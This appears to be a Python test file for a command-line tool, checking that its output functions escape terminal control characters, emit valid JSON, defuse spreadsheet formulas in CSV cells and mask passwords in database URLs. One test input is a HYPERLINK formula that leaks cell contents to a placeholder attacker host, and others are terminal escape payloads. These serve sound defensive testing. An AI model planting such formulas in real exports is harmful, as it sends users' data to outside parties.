"""The renderers that keep hostile text from acting on whoever reads lizardctl's output:
terminal escapes, always-valid JSON, formula-free CSV cells and URLs without secrets."""

from __future__ import annotations

import csv
import io
import json
import os
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lizardctl.core.config import mask_url, scrub_secrets
from lizardctl.core.output import SpreadsheetWriter, json_text, printable, spreadsheet_cell

NON_UTF8_NAME = os.fsdecode(b"root\xff")
"""A folder name that is not UTF-8, as Python hands it over (surrogateescape)."""


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("62km/h", "62km/h"),
        ("Ünïcode ok", "Ünïcode ok"),
        ("\x1b[2J\x1b[31mred", "\\x1b[2J\\x1b[31mred"),
        ("one\ntwo\r\tthree", "one\\ntwo\\r\\tthree"),
        ("\x00\x07\x7f", "\\x00\\x07\\x7f"),
        ("\x9b31m", "\\x9b31m"),  # C1 CSI
        (NON_UTF8_NAME, "root\\xff"),
        ("\ud800", "\\ud800"),  # a lone surrogate no byte decodes to
        ("abc\u202edcba", "abc\\u202edcba"),  # right-to-left override
        ("line\u2028forged", "line\\u2028forged"),
    ],
)
def test_printable_makes_controls_visible(raw: str, shown: str) -> None:
    assert printable(raw) == shown


def test_printable_keeps_lines_only_when_asked() -> None:
    text = '{\n\t"a": "\x1b[31m\r"\n}'
    assert printable(text, lines=True) == '{\n\t"a": "\\x1b[31m\\r"\n}'
    assert "\n" not in printable(text)


@given(st.text())
def test_printable_output_has_no_control_character(text: str) -> None:
    shown = printable(text)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert not any(0xD800 <= ord(c) <= 0xDFFF for c in shown)
    shown.encode("utf-8")  # strict: nothing left that a UTF-8 terminal cannot take


@given(st.recursive(st.text() | st.integers() | st.none(), lambda inner: st.lists(inner)))
def test_json_text_is_valid_strict_utf8_json(data: object) -> None:
    text = json_text(data)
    text.encode("utf-8")  # no lone surrogate written raw
    assert not any(0x7F <= ord(c) <= 0x9F for c in text)
    json.loads(text)


def test_json_text_keeps_data_and_shows_undecodable_bytes_as_in_tables() -> None:
    data = {"problems": [f"cannot read {NON_UTF8_NAME}/a\nb"], "value": "\x1b[31m\x9b Ü"}
    text = json_text(data)
    assert "\\\\xff" in text  # the JSON text holds a backslash, then xff
    back = json.loads(text)
    assert back["problems"] == ["cannot read root\\xff/a\nb"]
    assert back["value"] == data["value"]  # controls are JSON escapes: the data is unchanged


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")', "'=HYPERLINK("),
        ("+1+1", "'+1+1"),
        ("-5km/h", "'-5km/h"),
        ("-1", "'-1"),  # text, even if it looks like a number
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("62km/h", "62km/h"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_cell_neutralises_formula_text(value: str, written: str) -> None:
    assert str(spreadsheet_cell(value)).startswith(written)


@pytest.mark.parametrize("number", [-3, 0, 7, -1.5, Decimal("-1500.50")])
def test_spreadsheet_cell_leaves_lizardctls_own_numbers_alone(number: object) -> None:
    assert spreadsheet_cell(number) is number


def test_spreadsheet_writer_round_trips_neutralised_rows() -> None:
    out = io.StringIO(newline="")
    writer = SpreadsheetWriter(out)
    writer.writerow(["name", "level", "missing"])
    writer.writerows([["=1+1", -2, None], ['@x,"y"', 3, None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "level", "missing"], ["'=1+1", "-2", ""], ['\'@x,"y"', "3", ""]]


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("postgresql+asyncpg://u:hunter2@db/x", "postgresql+asyncpg://u:***@db/x"),
        (
            "postgresql+asyncpg://u@db/x?password=hunter2&search_path=s",
            "postgresql+asyncpg://u@db/x?password=***&search_path=s",
        ),
        (
            "postgresql+asyncpg://db/x?PassWord=a&sslpassword=b&Token=c&Token=d&pwd=e",
            "postgresql+asyncpg://db/x?PassWord=***&sslpassword=***&Token=***&Token=***&pwd=***",
        ),
        (
            "postgresql+asyncpg://db/x?access_key=a&secret_key=b&passwd=c&secret=d",
            "postgresql+asyncpg://db/x?access_key=***&secret_key=***&passwd=***&secret=***",
        ),
        ("sqlite+aiosqlite:////tmp/a.db?mode=ro", "sqlite+aiosqlite:////tmp/a.db?mode=ro"),
        ("postgresql://u:hunter2@db:notaport/x", "<unparseable URL>"),
    ],
)
def test_mask_url_hides_every_secret(url: str, shown: str) -> None:
    assert mask_url(url) == shown
    assert "hunter2" not in mask_url(url)


def test_scrub_secrets_removes_what_a_driver_quoted() -> None:
    url = "postgresql+asyncpg://u:pw1@db/x?password=hunter2&search_path=s"
    text = "connect failed: dsn password=hunter2 user u:pw1 search_path=s"
    assert scrub_secrets(text, url) == "connect failed: dsn password=*** user u:*** search_path=s"
